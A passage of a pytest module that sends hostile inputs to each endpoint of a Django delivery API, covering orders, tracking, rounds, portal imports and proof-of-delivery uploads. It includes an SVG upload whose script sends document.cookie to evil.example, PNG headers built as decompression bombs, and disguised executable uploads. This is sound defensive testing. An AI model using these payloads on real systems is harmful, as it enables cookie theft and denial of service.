"""The hostile-input corpus (tests/hostile.py) against every delivery API endpoint: each case
is refused with a 4xx and a message, no table changes and no file lands on disk.

Each endpoint is sent its cases by the user who reaches its deepest checks (the citizen's
proved document, the dispatcher, the courier whose round is under way), every field varied
on its own from a request that is otherwise accepted; the accepted request is sent after the
run, so a case cannot pass only because something else in it was wrong. Signed-out clients
and the wrong role are refused too."""

from __future__ import annotations

import json
import struct
import uuid
import zlib
from datetime import datetime, time, timedelta
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from core.roles import Role
from delivery.models import (
    DeliveryFeedback,
    DeliveryNotice,
    DeliveryOrder,
    DeliveryStatus,
    ProofOfDelivery,
    Round,
)
from delivery.selectors import delivery_windows
from delivery.services import portal, round_plan, round_start
from tests.factories import UserFactory, courier_make, home_order_make
from tests.hostile import (
    DATA,
    HOSTILE_UPLOADS,
    INJECTIONS,
    file_bytes,
    filter_cases,
    hostile_endpoint,
    raw_bodies,
    refusal_problem,
    text_cases,
)

COVERED = {
    "delivery_api:check",
    "delivery_api:point",
    "delivery_api:offices",
    "delivery_api:orders",
    "delivery_api:track",
    "delivery_api:track-feedback",
    "delivery_api:board",
    "delivery_api:plans",
    "delivery_api:shifts",
    "delivery_api:imports",
    "delivery_api:round",
    "delivery_api:round-stops",
    "delivery_api:round-start",
    "delivery_api:round-position",
    "delivery_api:courier-round",
    "delivery_api:proofs",
    "delivery_api:order-ready",
    "delivery_api:order-collected",
    "delivery_api:notices",
}

API = "/api/v1/delivery"
FILES = DATA / "delivery"

# Values a JSON body can hold in a field that is an id (an office, an order, a courier).
ID_VALUES = {
    **filter_cases(),
    "boolean": True,
    "fraction": 1.5,
    "list": [1],
    "object": {"id": 1},
    "beyond_bigint": 2**64,
    "exponent": "1e3",
    "hexadecimal": "0x10",
    "many_digits": "9" * 5000,
    "zero": 0,
    "negative": -1,
}
# The same for a query string, where every value is text.
ID_PARAMS = {
    **filter_cases(),
    "fraction": "1.5",
    "exponent": "1e3",
    "many_digits": "9" * 5000,
    "zero": "0",
    "negative": "-1",
}
# Values of a field that is a day (YYYY-MM-DD).
DAY_VALUES = {
    **filter_cases(),
    "impossible": "2026-02-30",
    "basic_format": "20261206",
    "week_date": "2026-W49-1",
    "with_time": "2026-12-06T10:00",
    "year_one": "0001-01-01",
    "year_9999": "9999-12-31",
    "empty": "",
}
# Values of a field that is a moment (ISO 8601 date and time).
MOMENT_VALUES = {
    **filter_cases(),
    "impossible_day": "2026-02-30T09:00",
    "hour_25": "2026-12-06T25:00",
    "offset_beyond_a_day": "2026-12-06T09:00+99:00",
    "year_one": "0001-01-01T00:00+14:00",
    "year_9999": "9999-12-31T23:59:59-12:00",
    "date_only": "2026-12-06",
    "basic_format": "20261206T0900",
    "epoch_seconds": "1765000000",
    "empty": "",
}
# Values of a longitude or latitude.
COORDINATE_VALUES = {
    **filter_cases(),
    "nan": "nan",
    "infinity": "inf",
    "beyond_float": "1e400",
    "out_of_range": "1035.2",
    "negative_out_of_range": "-231.9",
    "empty_list": "[]",
}


def _post_json(client, url, body):
    data = body if isinstance(body, bytes) else json.dumps(body)
    return client.post(url, data, content_type="application/json")


def _png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` × ``height`` pixels (a decompression bomb: the
    pixels are never there, the allocation a viewer makes for them would be)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    crc = struct.pack(">I", zlib.crc32(chunk) & 0xFFFFFFFF)
    idat = b"IDAT" + zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(ihdr))
        + chunk
        + crc
        + struct.pack(">I", len(idat) - 4)
        + idat
        + struct.pack(">I", zlib.crc32(idat) & 0xFFFFFFFF)
    )


SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>fetch('//evil.example/'+document.cookie)</script></svg>"
)


def hostile_images() -> dict[str, tuple[bytes, str, str]]:
    """Files sent as a proof's photo or signature: (bytes, file name, content type)."""
    doorstep = (FILES / "doorstep.jpg").read_bytes()
    images = {
        "not_a_photo": ((FILES / "not_a_photo.jpg").read_bytes(), "photo.jpg", "image/jpeg"),
        "svg_with_script": (SVG_WITH_SCRIPT, "photo.svg", "image/svg+xml"),
        "svg_named_jpeg": (SVG_WITH_SCRIPT, "photo.jpg", "image/jpeg"),
        "huge_png_header": (_png_header(100_000, 100_000), "photo.png", "image/png"),
        "wide_png_header": (_png_header(60_000, 1), "photo.png", "image/png"),
        "jpeg_magic_then_garbage": (
            b"\xff\xd8\xff\xe0" + b"\x00garbage" * 64,
            "p.jpg",
            "image/jpeg",
        ),
        "truncated_jpeg": (doorstep[:40], "photo.jpg", "image/jpeg"),
        "riff_not_webp": (
            b"RIFF\x00\x00\x00\x00WAVEfmt " + b"\x00" * 64,
            "photo.webp",
            "image/webp",
        ),
        "empty_file": (b"", "photo.jpg", "image/jpeg"),
        "over_5_mb": (b"\xff\xd8\xff" + b"\x00" * (5 * 1024**2), "photo.jpg", "image/jpeg"),
    }
    for case in ("zip_bomb", "binary_garbage_csv", "nul_bytes_csv", "corrupt_gpkg"):
        images[case] = (file_bytes(HOSTILE_UPLOADS[case][0]), "photo.jpg", "image/jpeg")
    return images


def _media_files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


# --- The citizen's side: no sign-in -------------------------------------------------------


@pytest.fixture
def window(city):
    """The first delivery window the post office of ``city`` offers (ISO 8601)."""
    return delivery_windows(office=city["offices"][0])[0].start.isoformat()


def test_hostile_document_checks_are_refused_and_change_nothing(client, city):
    url = f"{API}/check"
    good = {"reference": "ES-TEST-0001", "phone": "0599000001"}
    with hostile_endpoint("POST /api/v1/delivery/check") as run:
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: _post_json(client, url, b))
        for field in ("reference", "phone"):
            for name, value in {
                **text_cases(),
                **filter_cases(),
                "nul_within_limit": "ES-TEST-0001\x00",
                "number": 599000001,
                "list": ["ES-TEST-0001"],
                "null": None,
            }.items():
                run.send(
                    f"{field}={name}",
                    lambda f=field, v=value: _post_json(client, url, good | {f: v}),
                )
    assert _post_json(client, url, good).status_code == 200


def test_hostile_delivery_point_lookups_are_refused(client, city):
    url = f"{API}/point"
    with hostile_endpoint("GET /api/v1/delivery/point") as run:
        for name, value in ID_PARAMS.items():
            run.send(f"address={name}", lambda v=value: client.get(url, {"address": v}))
        for name, value in COORDINATE_VALUES.items():
            for param, other in (("lon", "lat"), ("lat", "lon")):
                run.send(
                    f"{param}={name}",
                    lambda p=param, o=other, v=value: client.get(
                        url, {p: v, o: "35.2040" if o == "lon" else "31.9040"}
                    ),
                )
        run.send("lon_without_lat", lambda: client.get(url, {"lon": "35.2040"}))
        run.send("nothing", lambda: client.get(url))
    building = city["buildings"][0]
    assert client.get(url, {"address": building.pk}).status_code == 200


def test_hostile_nearest_office_lookups_are_refused(client, city):
    url = f"{API}/offices"
    with hostile_endpoint("GET /api/v1/delivery/offices") as run:
        for name, value in COORDINATE_VALUES.items():
            for param, other in (("lon", "lat"), ("lat", "lon")):
                run.send(
                    f"{param}={name}",
                    lambda p=param, o=other, v=value: client.get(
                        url, {p: v, o: "35.2040" if o == "lon" else "31.9040"}
                    ),
                )
        run.send("no_point", lambda: client.get(url))
    assert client.get(url, {"lon": "35.2040", "lat": "31.9040"}).status_code == 200


def test_hostile_orders_are_refused_and_store_nothing(client, city, window):
    url = f"{API}/orders"
    collection = {
        "reference": "ES-TEST-0002",
        "phone": "0599000002",
        "method": "collection",
        "office": city["offices"][1].pk,
        "contact_name": "Samir Khalil",
    }
    home = collection | {
        "method": "home",
        "office": None,
        "address": city["buildings"][0].pk,
        "window_start": window,
    }
    at_point = home | {"address": None, "lon": "35.2040", "lat": "31.9040"}

    def post(body):
        return _post_json(client, url, body)

    with hostile_endpoint("POST /api/v1/delivery/orders") as run:
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: post(b))
        for name, text in text_cases().items():
            # The name of the person who receives the document is stored and printed on the
            # courier's run sheet: markup, control characters and over-long text are refused.
            run.send(f"contact_name={name}", lambda t=text: post(collection | {"contact_name": t}))
            run.send(f"home contact_name={name}", lambda t=text: post(home | {"contact_name": t}))
        for field in ("reference", "phone"):
            for name, value in {**filter_cases(), "nul_within_limit": "ES-TEST-0002\x00"}.items():
                run.send(f"{field}={name}", lambda f=field, v=value: post(collection | {f: v}))
        for name, value in {**filter_cases(), "number": 1, "list": ["home"]}.items():
            run.send(f"method={name}", lambda v=value: post(collection | {"method": v}))
        for name, value in ID_VALUES.items():
            run.send(f"office={name}", lambda v=value: post(collection | {"office": v}))
            run.send(f"address={name}", lambda v=value: post(home | {"address": v}))
        for name, value in COORDINATE_VALUES.items():
            for field in ("lon", "lat"):
                run.send(f"{field}={name}", lambda f=field, v=value: post(at_point | {f: v}))
        for name, value in {
            **MOMENT_VALUES,
            "not_offered": "2026-01-01T09:00:00+02:00",
            "number": 20261206,
        }.items():
            run.send(f"window_start={name}", lambda v=value: post(home | {"window_start": v}))
    assert not DeliveryOrder.objects.exists()
    assert post(collection).status_code == 201


def test_hostile_tracking_tokens_are_refused(client, city):
    with hostile_endpoint("GET /api/v1/delivery/track/<token>") as run:
        for name, value in {
            **filter_cases(),
            "nul_within_length": "A" * 20 + "\x00" + "B" * 10,
            "too_short": "abc",
            "too_long": "A" * 65,
            "very_long": "A" * 10_000,
            "unknown": "A" * 32,
            "spaces": " " * 32,
        }.items():
            run.send(
                name,
                lambda v=value: client.get(f"{API}/track/{quote(v, safe='')}"),
            )


def test_hostile_feedback_is_refused_and_stores_nothing(client, delivered):
    """The citizen's rating through the tracking link: every field varied on its own from a
    rating that is accepted afterwards, bad tokens, and orders not delivered."""
    order = delivered.delivered
    url = f"{API}/track/{order.tracking_token}/feedback"
    good = {"rating": 4, "comment": "Polite and on time."}

    def post(body, to=url):
        return _post_json(client, to, body)

    with hostile_endpoint("POST /api/v1/delivery/track/<token>/feedback") as run:
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: post(b))
        # The comment is stored and shown to the office's staff: markup, control characters
        # and over-long text are refused (injections are plain text, so they go elsewhere).
        for name, text in text_cases().items():
            run.send(f"comment={name}", lambda t=text: post(good | {"comment": t}))
        run.send("comment_over_1000", lambda: post(good | {"comment": "x" * 1001}))
        for name, value in {"number": 5, "list": ["fine"], "object": {"text": "fine"}}.items():
            run.send(f"comment={name}", lambda v=value: post(good | {"comment": v}))
        for name, value in {
            **ID_VALUES,
            "zero": 0,
            "six": 6,
            "minus_one": -1,
            "arabic_indic_four": "٤",
            "nan": "nan",
            "null": None,
            "missing": ...,
        }.items():
            body = {"comment": good["comment"]} if value is ... else good | {"rating": value}
            run.send(f"rating={name}", lambda b=body: post(b))
        run.send(
            "form_encoded_markup",
            lambda: client.post(url, {"rating": "4", "comment": "<b>hi</b>"}),
        )
        for name, value in {
            **filter_cases(),
            "unknown": "A" * 32,
            "too_long": "A" * 65,
            "nul_within_length": "A" * 20 + "\x00" + "B" * 10,
        }.items():
            run.send(
                f"token={name}",
                lambda v=value: post(good, to=f"{API}/track/{quote(v, safe='')}/feedback"),
            )
        for name, other in (("out_for_delivery", delivered.out), ("failed", delivered.failed)):
            run.send(
                f"order_{name}",
                lambda o=other: post(good, to=f"{API}/track/{o.tracking_token}/feedback"),
            )
    assert not DeliveryFeedback.objects.exists()
    assert post(good).status_code == 201
    with hostile_endpoint("POST /api/v1/delivery/track/<token>/feedback, rated") as run:
        run.send("second_rating", lambda: post(good | {"rating": 1}))
        run.send("same_rating_again", lambda: post(good))
    assert DeliveryFeedback.objects.get().rating == 4


# --- The staff side: a grid town with two couriers, one of them out on his round ---------


@pytest.fixture
def rounds(grid, tomorrow, settings, tmp_path):
    """Two couriers' rounds of tomorrow: ``walker``'s under way (three stops),
    ``other``'s planned; one order left out of every round; a dispatcher; proofs stored
    under ``tmp_path``."""
    settings.MEDIA_ROOT = str(tmp_path)
    office, buildings = grid
    walker = courier_make(office=office, username="hostile-walker", capacity=3)
    other = courier_make(office=office, username="hostile-other", capacity=3)
    for i in range(6):
        home_order_make(building=buildings[i * 3], office=office, day=tomorrow)
    round_plan(office=office, day=tomorrow)
    other.capacity = 5  # room for the spare order
    other.save()
    spare = home_order_make(building=buildings[25], office=office, day=tomorrow)
    started = round_start(round_=Round.objects.get(courier=walker), user=walker.user)
    stops = list(started.stops.select_related("order__building").order_by("sequence"))
    assert len(stops) == 3
    dispatcher = UserFactory(role=Role.DISPATCHER)
    signed_in = {}
    for name, user in {
        "dispatcher": dispatcher,
        "walker": walker.user,
        "other": other.user,
    }.items():
        signed_in[name] = Client()
        signed_in[name].force_login(user)
    return SimpleNamespace(
        anonymous=Client(),
        as_dispatcher=signed_in["dispatcher"],
        as_walker=signed_in["walker"],
        as_other=signed_in["other"],
        office=office,
        walker=walker,
        other=other,
        started=started,
        planned=Round.objects.get(courier=other),
        stops=stops,
        spare=spare,
        dispatcher=dispatcher,
        media=tmp_path,
        tomorrow=tomorrow,
    )


PK_CASES = {"zero": 0, "beyond_int": 2**31, "beyond_bigint": 2**63, "thirty_digits": 10**30}


def test_hostile_board_parameters_are_refused(rounds):
    url = f"{API}/board"
    good = {"office": rounds.office.pk, "day": str(rounds.tomorrow)}
    with hostile_endpoint("GET /api/v1/delivery/board") as run:
        run.send("anonymous", lambda: rounds.anonymous.get(url, good))
        run.send("courier", lambda: rounds.as_walker.get(url, good))
        client = rounds.as_dispatcher
        for name, value in ID_PARAMS.items():
            run.send(f"office={name}", lambda v=value: client.get(url, good | {"office": v}))
        for name, value in DAY_VALUES.items():
            run.send(f"day={name}", lambda v=value: client.get(url, good | {"day": v}))
        run.send("no_day", lambda: client.get(url, {"office": rounds.office.pk}))
    assert client.get(url, good).status_code == 200


def test_hostile_plans_are_refused_and_start_no_job(rounds):
    url = f"{API}/plans"
    good = {"office": rounds.office.pk, "day": str(rounds.tomorrow)}
    with hostile_endpoint("POST /api/v1/delivery/plans") as run:
        run.send("anonymous", lambda: _post_json(rounds.anonymous, url, good))
        run.send("courier", lambda: _post_json(rounds.as_walker, url, good))
        client = rounds.as_dispatcher
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: _post_json(client, url, b))
        for name, value in ID_VALUES.items():
            run.send(
                f"office={name}", lambda v=value: _post_json(client, url, good | {"office": v})
            )
        for name, value in {
            **DAY_VALUES,
            "yesterday": str(timezone.localdate() - timedelta(days=1)),
            "two_years_ahead": str(timezone.localdate() + timedelta(days=730)),
            "number": 20261206,
            "list": [str(rounds.tomorrow)],
        }.items():
            run.send(f"day={name}", lambda v=value: _post_json(client, url, good | {"day": v}))


def test_hostile_shifts_are_refused_and_store_nothing(rounds):
    url = f"{API}/shifts"
    tz = timezone.get_current_timezone()
    later = rounds.tomorrow + timedelta(days=1)
    good = {
        "courier": rounds.walker.pk,
        "starts_at": datetime.combine(later, time(8), tz).isoformat(),
        "ends_at": datetime.combine(later, time(12), tz).isoformat(),
    }
    tomorrow_at = lambda h: datetime.combine(rounds.tomorrow, time(h), tz).isoformat()  # noqa: E731
    now = timezone.now()
    with hostile_endpoint("POST /api/v1/delivery/shifts") as run:
        run.send("anonymous", lambda: _post_json(rounds.anonymous, url, good))
        run.send("courier", lambda: _post_json(rounds.as_walker, url, good))
        client = rounds.as_dispatcher
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: _post_json(client, url, b))
        for name, value in ID_VALUES.items():
            run.send(
                f"courier={name}", lambda v=value: _post_json(client, url, good | {"courier": v})
            )
        for field in ("starts_at", "ends_at"):
            for name, value in {**MOMENT_VALUES, "number": 1765000000, "list": []}.items():
                run.send(
                    f"{field}={name}",
                    lambda f=field, v=value: _post_json(client, url, good | {f: v}),
                )
        for name, (start, end) in {
            "reversed": (good["ends_at"], good["starts_at"]),
            "empty": (good["starts_at"], good["starts_at"]),
            "fifteen_hours": (good["starts_at"], datetime.combine(later, time(23), tz).isoformat()),
            "years_long": ("2030-01-01T08:00+02:00", "2040-01-01T08:00+02:00"),
            "overlapping": (tomorrow_at(14), tomorrow_at(18)),
            "already_over": (
                (now - timedelta(days=3)).isoformat(),
                (now - timedelta(days=3, hours=-4)).isoformat(),
            ),
            "two_years_ahead": (
                (now + timedelta(days=730)).isoformat(),
                (now + timedelta(days=730, hours=4)).isoformat(),
            ),
        }.items():
            run.send(
                name,
                lambda s=start, e=end: _post_json(
                    client, url, good | {"starts_at": s, "ends_at": e}
                ),
            )
    assert _post_json(client, url, good).status_code == 201


def _csv(**change) -> bytes:
    row = {
        "reference": "ES-2031-000001",
        "kind": "certificate",
        "title_en": "Birth certificate",
        "title_ar": "شهادة ميلاد",
        "holder_name": "Portal Holder",
        "holder_phone": "0599100001",
        "method": "collection",
        "postcode": "",
        "window_start": "",
        "window_end": "",
        "office": "grid-post",
        "contact_name": "",
    } | change
    header = ",".join(row)
    values = ",".join('"' + str(v).replace('"', '""') + '"' for v in row.values())
    return f"{header}\n{values}\n".encode()


def _row_refused(response) -> str | None:
    """The portal's file is checked row by row: a bad row is reported with its line, code and
    reason in a 200 answer and nothing of it is stored (the good rows of the same file are;
    see delivery.services.portal). A file whose only row is refused is such an answer."""
    if response.status_code != 200:
        return refusal_problem(response)
    body = response.json()
    rejected = body.get("rejected") or []
    if body.get("imported") or body.get("unchanged") or len(rejected) != 1:
        return f"the row was not refused: {str(body)[:200]}"
    if not rejected[0].get("message") or not rejected[0].get("code"):
        return f"the row was refused without a reason: {rejected[0]}"
    return None


def test_hostile_portal_files_are_refused_and_store_nothing(rounds, monkeypatch):
    url = f"{API}/imports"

    def upload(data: bytes, name: str = "orders.csv", **extra):
        return client.post(url, {"file": SimpleUploadedFile(name, data), **extra})

    with hostile_endpoint("POST /api/v1/delivery/imports") as run:
        run.send("anonymous", lambda: rounds.anonymous.post(url, {"file": _upload_csv()}))
        run.send(
            "courier",
            lambda: rounds.as_walker.post(url, {"file": _upload_csv()}),
        )
        client = rounds.as_dispatcher
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: _post_json(client, url, b))
        for name, (path, sent_as) in HOSTILE_UPLOADS.items():
            run.send(name, lambda p=path, s=sent_as: upload(file_bytes(p), s))
            run.send(f"{name} named .csv", lambda p=path: upload(file_bytes(p)))
        for name in ("portal_orders_wrong_columns.csv", "portal_orders_cp1256.csv"):
            run.send(name, lambda n=name: upload((FILES / n).read_bytes(), n))
        run.send("no_file", lambda: client.post(url, {"other": "x"}))
        run.send("file_under_another_name", lambda: client.post(url, {"csv": _upload_csv()}))
        run.send("empty_file", lambda: upload(b""))
        run.send("header_only", lambda: upload(_csv().split(b"\n")[0] + b"\n"))
        run.send("field_beyond_csv_limit", lambda: upload(_csv(title_en="x" * 200_000)))
        run.send("nul_in_a_row", lambda: upload(_csv(holder_name="Portal\x00Holder")))
        run.send(
            "unclosed_quote",
            lambda: upload(_csv().split(b"\n")[0] + b'\n"ES-2031-000001,certificate\n'),
        )
        run.send("executable_named_csv", lambda: upload(b"MZ\x90\x00" + b"\x00" * 200))
        for name, value in filter_cases().items():
            run.send(f"dry_run={name}", lambda v=value: upload(_csv(), dry_run=v))
        # One row of hostile text: the row is refused with its reason, the file answered.
        for field in ("holder_name", "contact_name", "title_en", "title_ar"):
            for name, text in text_cases().items():
                run.send(
                    f"{field}={name}",
                    lambda f=field, t=text: upload(_csv(**{f: t})),
                    judge=_row_refused,
                )
        for field in ("reference", "kind", "method", "holder_phone", "office"):
            for name, value in filter_cases().items():
                run.send(
                    f"{field}={name}",
                    lambda f=field, v=value: upload(_csv(**{f: v})),
                    judge=_row_refused,
                )
        for field in ("postcode", "window_start", "window_end"):
            for name, value in {**filter_cases(), "impossible_day": "2031-02-30T09:00"}.items():
                home = {
                    "method": "home",
                    "postcode": rounds.spare.postcode,
                    "window_start": "2031-06-02T09:00",
                    "window_end": "2031-06-02T12:00",
                }
                run.send(
                    f"home {field}={name}",
                    lambda f=field, v=value, h=home: upload(_csv(**(h | {f: v}))),
                    judge=_row_refused,
                )
        monkeypatch.setattr(portal, "MAX_BYTES", 100)
        run.send("over_the_size_limit", lambda: upload(_csv()))
        monkeypatch.undo()
    assert upload(_csv()).json()["imported"] == 1


def _upload_csv():
    return SimpleUploadedFile("orders.csv", _csv())


def test_hostile_round_reads_are_refused(rounds):
    with hostile_endpoint("GET /api/v1/delivery/rounds/<pk>") as run:
        url = f"{API}/rounds/{rounds.started.pk}"
        run.send("anonymous", lambda: rounds.anonymous.get(url))
        run.send("another_courier", lambda: rounds.as_other.get(url))
        client = rounds.as_dispatcher
        for name, pk in PK_CASES.items():
            run.send(f"pk={name}", lambda p=pk: client.get(f"{API}/rounds/{p}"))
        run.send("pk=negative", lambda: client.get(f"{API}/rounds/-1"))
        run.send("pk=text", lambda: client.get(f"{API}/rounds/{quote(INJECTIONS['sql_union'])}"))


def test_hostile_round_moves_are_refused_and_change_nothing(rounds):
    url = f"{API}/rounds/{rounds.planned.pk}/stops"
    good = {"order": rounds.spare.pk, "version": rounds.planned.version}
    with hostile_endpoint("POST /api/v1/delivery/rounds/<pk>/stops") as run:
        run.send("anonymous", lambda: _post_json(rounds.anonymous, url, good))
        run.send("courier", lambda: _post_json(rounds.as_other, url, good))
        client = rounds.as_dispatcher
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: _post_json(client, url, b))
        for name, value in ID_VALUES.items():
            run.send(f"order={name}", lambda v=value: _post_json(client, url, good | {"order": v}))
            run.send(
                f"version={name}", lambda v=value: _post_json(client, url, good | {"version": v})
            )
        run.send("stale_version", lambda: _post_json(client, url, good | {"version": 99}))
        run.send(
            "order_out_for_delivery",
            lambda: _post_json(client, url, good | {"order": rounds.stops[0].order_id}),
        )
        run.send(
            "into_a_round_under_way",
            lambda: _post_json(
                client,
                f"{API}/rounds/{rounds.started.pk}/stops",
                good | {"version": rounds.started.version},
            ),
        )
        for name, pk in PK_CASES.items():
            run.send(
                f"pk={name}",
                lambda p=pk: _post_json(client, f"{API}/rounds/{p}/stops", good),
            )
    assert _post_json(client, url, good).status_code == 200


def test_hostile_round_starts_are_refused_and_change_nothing(rounds):
    planned = f"{API}/rounds/{rounds.planned.pk}/start"
    with hostile_endpoint("POST /api/v1/delivery/rounds/<pk>/start") as run:
        run.send("anonymous", lambda: rounds.anonymous.post(planned))
        run.send("dispatcher", lambda: rounds.as_dispatcher.post(planned))
        client = rounds.as_walker
        run.send("another_couriers_round", lambda: client.post(planned))
        for name, body in raw_bodies().items():
            run.send(
                f"another_couriers_round {name}", lambda b=body: _post_json(client, planned, b)
            )
        for name, pk in PK_CASES.items():
            run.send(f"pk={name}", lambda p=pk: client.post(f"{API}/rounds/{p}/start"))


def test_hostile_courier_positions_are_refused_and_change_nothing(rounds):
    url = f"{API}/rounds/{rounds.started.pk}/position"
    entrance = rounds.stops[0].order.building.entrance
    good = {"lon": entrance.x, "lat": entrance.y}
    with hostile_endpoint("POST /api/v1/delivery/rounds/<pk>/position") as run:
        run.send("anonymous", lambda: _post_json(rounds.anonymous, url, good))
        run.send("dispatcher", lambda: _post_json(rounds.as_dispatcher, url, good))
        run.send("another_courier", lambda: _post_json(rounds.as_other, url, good))
        run.send(
            "a_round_not_started",
            lambda: _post_json(rounds.as_other, f"{API}/rounds/{rounds.planned.pk}/position", good),
        )
        client = rounds.as_walker
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: _post_json(client, url, b))
        for name, value in {
            **COORDINATE_VALUES,
            "boolean": True,
            "list": [35.2],
            "object": {"x": 35.2},
            "number_out_of_range": 200.5,
            "null": None,
        }.items():
            for field in ("lon", "lat"):
                run.send(
                    f"{field}={name}",
                    lambda f=field, v=value: _post_json(client, url, good | {f: v}),
                )
        for name, pk in PK_CASES.items():
            run.send(
                f"pk={name}", lambda p=pk: _post_json(client, f"{API}/rounds/{p}/position", good)
            )
    assert _post_json(client, url, good).status_code == 200


def test_hostile_courier_round_days_are_refused(rounds):
    url = f"{API}/courier/round"
    with hostile_endpoint("GET /api/v1/delivery/courier/round") as run:
        run.send("anonymous", lambda: rounds.anonymous.get(url))
        run.send("dispatcher", lambda: rounds.as_dispatcher.get(url))
        client = rounds.as_walker
        for name, value in DAY_VALUES.items():
            if value == "":
                continue  # no day is today's round
            run.send(f"day={name}", lambda v=value: client.get(url, {"day": v}))
    assert client.get(url, {"day": str(rounds.tomorrow)}).json()["round"]["id"] == rounds.started.pk


def test_hostile_proofs_are_refused_and_store_neither_rows_nor_files(rounds):
    url = f"{API}/proofs"
    first, second = rounds.stops[0], rounds.stops[1]
    client = rounds.as_walker

    def record(stop, **change):
        entrance = stop.order.building.entrance
        return {
            "client_id": str(uuid.uuid4()),
            "order": stop.order_id,
            "outcome": "delivered",
            "recipient_name": "Recipient at the door",
            "recorded_at": timezone.now().isoformat(),
            "lon": str(entrance.x),
            "lat": str(entrance.y),
            "accuracy_m": "8",
        } | change

    stored = record(first)
    assert client.post(url, stored).status_code == 201  # the first stop has its proof
    # The last stop's citizen cancelled while the courier was on the way.
    cancelled = rounds.stops[-1]
    DeliveryOrder.objects.filter(pk=cancelled.order_id).update(status=DeliveryStatus.CANCELLED)
    media_before = _media_files(rounds.media)
    good = record(second)

    def post(body):
        return client.post(url, body)

    def with_file(field, content, name, content_type, **change):
        return post(good | change | {field: SimpleUploadedFile(name, content, content_type)})

    with hostile_endpoint("POST /api/v1/delivery/proofs") as run:
        run.send("anonymous", lambda: rounds.anonymous.post(url, good))
        run.send("dispatcher", lambda: rounds.as_dispatcher.post(url, good))
        run.send("another_courier", lambda: rounds.as_other.post(url, good))
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: _post_json(client, url, b))
        # Duplicates: a second record for a stop that has its proof, an id used twice.
        run.send("second_record_for_a_stop", lambda: post(record(first, outcome="failed")))
        run.send(
            "second_delivered_record_with_a_photo",
            lambda: post(
                record(first)
                | {"photo": SimpleUploadedFile("p.jpg", (FILES / "doorstep.jpg").read_bytes())}
            ),
        )
        run.send(
            "client_id_of_another_stop", lambda: post(good | {"client_id": stored["client_id"]})
        )
        run.send(
            "order_no_longer_out_with_a_photo",
            lambda: post(
                record(cancelled)
                | {"photo": SimpleUploadedFile("p.jpg", (FILES / "doorstep.jpg").read_bytes())}
            ),
        )
        run.send(
            "stop_of_a_round_not_started",
            lambda: post(good | {"order": rounds.planned.stops.first().order_id}),
        )
        # Stored free text: markup, control characters and over-long text are refused.
        for name, text in text_cases().items():
            run.send(f"recipient_name={name}", lambda t=text: post(good | {"recipient_name": t}))
            run.send(f"note={name}", lambda t=text: post(good | {"note": t}))
            run.send(
                f"failed note={name}",
                lambda t=text: post(
                    good | {"outcome": "failed", "failure_reason": "not_home", "note": t}
                ),
            )
        run.send("note_over_300", lambda: post(good | {"note": "x" * 301}))
        run.send("recipient_name_over_200", lambda: post(good | {"recipient_name": "x" * 201}))
        for name, value in filter_cases().items():
            for field in ("client_id", "outcome", "order"):
                run.send(f"{field}={name}", lambda f=field, v=value: post(good | {f: v}))
            run.send(
                f"failure_reason={name}",
                lambda v=value: post(good | {"outcome": "failed", "failure_reason": v}),
            )
        for name, value in {
            **MOMENT_VALUES,
            "an_hour_ahead": (timezone.now() + timedelta(hours=1)).isoformat(),
            "a_year_ago": (timezone.now() - timedelta(days=365)).isoformat(),
        }.items():
            run.send(f"recorded_at={name}", lambda v=value: post(good | {"recorded_at": v}))
        for name, value in COORDINATE_VALUES.items():
            for field in ("lon", "lat"):
                run.send(f"{field}={name}", lambda f=field, v=value: post(good | {f: v}))
        run.send("lon_without_lat", lambda: post({k: v for k, v in good.items() if k != "lat"}))
        for name, value in {
            **filter_cases(),
            "nan": "nan",
            "infinity": "inf",
            "beyond_float": "1e400",
            "negative": "-5",
            "beyond_the_earth": "1e9",
        }.items():
            run.send(f"accuracy_m={name}", lambda v=value: post(good | {"accuracy_m": v}))
        for name, value in {**ID_VALUES, "null": None}.items():
            run.send(
                f"json order={name}",
                lambda v=value: _post_json(client, url, good | {"order": v}),
            )
        for name, value in {"number": 12, "list": ["x"], "object": {"a": 1}}.items():
            for field in ("recipient_name", "note", "client_id", "recorded_at", "accuracy_m"):
                if field == "accuracy_m" and name == "number":
                    continue  # twelve metres is an accuracy
                run.send(
                    f"json {field}={name}",
                    lambda f=field, v=value: _post_json(client, url, good | {f: v}),
                )
        # Files: the photo (JPEG, PNG or WebP) and the signature (PNG).
        for name, (content, filename, content_type) in hostile_images().items():
            for field in ("photo", "signature"):
                run.send(
                    f"{field}={name}",
                    lambda f=field, c=content, n=filename, t=content_type: with_file(f, c, n, t),
                )
        run.send(
            "signature=jpeg",
            lambda: with_file(
                "signature", (FILES / "doorstep.jpg").read_bytes(), "s.png", "image/png"
            ),
        )
        run.send(
            "two_photos",
            lambda: post(
                good
                | {
                    "photo": [
                        SimpleUploadedFile("a.jpg", (FILES / "doorstep.jpg").read_bytes()),
                        SimpleUploadedFile("b.jpg", (FILES / "not_a_photo.jpg").read_bytes()),
                    ]
                }
            ),
        )
    assert _media_files(rounds.media) == media_before, "a refused proof left a file on disk"
    assert ProofOfDelivery.objects.count() == 1
    photo = SimpleUploadedFile("p.jpg", (FILES / "doorstep.jpg").read_bytes(), "image/jpeg")
    signature = SimpleUploadedFile("s.png", (FILES / "signature.png").read_bytes(), "image/png")
    accepted = client.post(url, good | {"photo": photo, "signature": signature})
    assert accepted.status_code == 201, accepted.content


def test_hostile_office_steps_are_refused_and_change_nothing(rounds):
    out = rounds.stops[1].order_id  # out for delivery: neither ready nor collected
